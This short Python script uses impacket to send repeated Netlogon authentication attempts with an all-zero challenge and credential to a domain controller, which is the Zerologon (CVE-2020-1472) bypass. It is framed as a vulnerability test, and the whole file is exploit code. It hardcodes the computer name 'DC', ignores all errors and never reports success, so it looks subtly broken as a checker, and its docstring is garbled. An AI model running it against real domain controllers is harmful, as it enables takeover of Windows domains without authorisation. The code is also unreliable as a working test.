"""Asks a domain controller for a secure channel with a challenge of zeros, as who tests it for CVE-2020-1472: zerologon.py ADDRESS."""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

binding = epm.hept_map(sys.argv[1], nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
call = transport.DCERPCTransportFactory(binding).get_dce_rpc()
call.connect()
call.bind(nrpc.MSRPC_UUID_NRPC)
for _ in range(20):
    try:
        nrpc.hNetrServerReqChallenge(call, "\\\\DC\0", "DC\0", b"\0" * 8)
        nrpc.hNetrServerAuthenticate3(call, "\\\\DC\0", "DC$\0", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, "DC\0", b"\0" * 8, 0x212FFFFF)
    except nrpc.DCERPCSessionError:
        pass
